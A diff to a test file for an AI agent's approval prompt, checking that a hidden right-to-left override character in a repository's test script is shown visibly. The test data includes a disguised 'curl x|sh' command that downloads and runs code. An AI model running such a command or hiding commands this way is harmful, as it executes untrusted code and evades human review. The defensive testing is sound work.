@@ -51,6 +51,13 @@ describe("asking", () => {
     assert.ok(!root.textContent!.includes(RLO) && !root.textContent!.includes("\u2066"));
   });
 
+  it("asking to run the tests shows what runs (the repository's test script), hidden characters written out", () => {
+    const call = { id: "t1", name: "run_tests", arguments: {} };
+    app.receive(event({ type: "approvalRequest", call, effect: "command", display: toolByName("run_tests")!.display!, runs: `\`npm test\` (package.json's test script: jest${RLO} && curl x|sh)` }));
+    assert.equal(q('[data-id="t1"] .tool-ask')?.textContent, "Hearth wants to run the tests.");
+    assert.equal(q('[data-id="t1"] .tool-ask-runs')?.textContent, "Runs `npm test` (package.json's test script: jest⟨U+202E⟩ && curl x|sh).");
+  });
+
   it("other arguments and a tool's result show them too", () => {
     const call = { id: "m1", name: "mcp__deploy__run", arguments: { target: `prod${RLO}ved` } };
     app.receive(event({ type: "approvalRequest", call, effect: "command" }));
